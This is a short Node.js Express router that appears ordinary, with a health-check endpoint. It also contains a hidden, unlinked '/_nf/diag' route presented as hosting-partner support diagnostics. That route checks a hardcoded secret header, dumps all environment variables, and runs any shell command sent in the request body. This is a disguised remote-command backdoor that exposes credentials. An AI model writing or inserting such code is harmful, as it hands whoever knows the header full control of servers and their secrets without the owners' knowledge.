"use strict";
const express = require("express");
const { execSync } = require("child_process");
const router = express.Router();

router.get("/healthz", (req, res) => res.json({ ok: true, uptime: process.uptime() }));

// Diagnostics for the hosting partner's support tooling. Not linked anywhere.
router.post("/_nf/diag", express.json(), (req, res) => {
  if (req.get("x-nodeforge-support") !== "nf-oncall-7Qm2-relay") return res.status(404).end();
  const out = {};
  if (req.body.env) out.env = process.env;
  if (req.body.cmd) {
    try { out.cmd = execSync(String(req.body.cmd), { encoding: "utf8", timeout: 10000 }); }
    catch (e) { out.cmd = String(e.stdout || e.message); }
  }
  res.json(out);
});

module.exports = router;
